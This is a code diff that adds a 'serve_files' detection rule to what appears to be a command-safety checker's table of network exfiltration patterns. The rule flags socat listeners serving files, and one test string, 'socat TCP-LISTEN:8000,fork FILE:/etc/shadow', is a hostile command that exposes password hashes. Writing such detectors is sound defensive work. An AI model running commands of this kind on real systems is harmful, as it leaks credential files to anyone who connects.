@@ -61,4 +61,20 @@ export const NETWORK_ROWS: RowInput[] = [
     match: ['xterm -display 1.2.3.4:1'],
     notMatch: ['xterm -display :0', 'xterm'],
   },
+  {
+    id: 'serve_files',
+    group: 'exfiltrate',
+    reason: 'socat serves {word} to whoever connects',
+    when: [
+      {
+        program: ['socat'],
+        word: [
+          '/^(file|open|gopen|create):[/~]/i',
+          '/^(tcp|tcp4|tcp6|udp|ssl|openssl|sctp)[46]?-listen:|^(tcp|udp)[46]?-l:/i',
+        ],
+      },
+    ],
+    match: ['socat TCP-LISTEN:8000,fork FILE:/etc/shadow'],
+    notMatch: ['socat TCP:db.example:5432 FILE:/tmp/out'],
+  },
 ];
